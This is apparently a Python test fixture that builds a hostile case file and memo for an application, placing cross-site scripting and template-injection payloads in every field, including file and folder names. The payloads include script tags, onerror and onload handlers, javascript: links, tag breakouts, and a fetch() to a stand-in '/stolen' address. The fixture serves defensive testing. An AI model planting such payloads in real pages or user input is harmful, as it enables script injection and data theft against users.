"""A case and a document of somebody who means harm: markup, scripts and addresses wherever a text can stand."""

from __future__ import annotations

from importlib import resources
from pathlib import Path

ELSEWHERE = "http://127.0.0.1:9/stolen"
TEXTS = (
    f"<script>fetch('{ELSEWHERE}');alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)><rect width=9/></svg>',
    "</textarea></title></style><script>alert(4)</script>",
    f'<div hx-get="{ELSEWHERE}" hx-trigger="load">x</div>',
    f"<a href='javascript:alert(5)'>x</a> [x](javascript:alert(6)) ![x]({ELSEWHERE})",
    f"<iframe src='{ELSEWHERE}'></iframe><base href='{ELSEWHERE}'><meta http-equiv=refresh content='0;{ELSEWHERE}'>",
    "{{ 7 * 7 }} {% raw %} {# x #}",
)
_PLACES = (
    "A bridge and a ferry",
    "The town may allow a bridge that would take the ferry company's business.",
    "Memo on the crossing",
    "Grant the bridge permit",
    "Raise the landing fee",
    "Build the bridge itself",
    "Go to court",
    "The town",
    "The ferry company",
    "The board",
    "The crews",
    "a permit that nobody uses is an embarrassment",
    "no permit, no bridge",
    "The talks so far",
)
FOLDER = "a<img src=x onerror=alert(7)>'b"
DOCUMENT = "memo<svg onload=alert(8)>.txt"


def write_hostile(folder: Path) -> str:
    """Write the case and the document into a folder, and return the case's key."""
    text = resources.files("countermove.casefile").joinpath("scaffold.yaml").read_text(encoding="utf-8")
    for number, place in enumerate(_PLACES):
        assert place in text, f"the scaffold no longer says {place!r}"
        text = text.replace(f": {place}\n", f": {_quoted(number)}\n").replace(f": {place}}}", f": {_quoted(number)}}}")
    inside = folder / FOLDER
    (inside / "sources").mkdir(parents=True)
    (inside / "case.yaml").write_text(text, encoding="utf-8")
    (inside / "sources" / DOCUMENT).write_text(_document(), encoding="utf-8")
    return f"{FOLDER}/case.yaml"


def _quoted(number: int) -> str:
    text = TEXTS[number % len(TEXTS)]
    return "'" + text.replace("'", "''") + f" {number}'"


def _document() -> str:
    paragraphs = "\n\n".join(f"We believe {text} will probably happen on 4 May 1987." for text in TEXTS)
    return f"MEMORANDUM {TEXTS[0]}\n\n9 March 1987\n\nSUBJECT: {TEXTS[1]}\n\nSummary {TEXTS[5]}\n\n{paragraphs}\n"
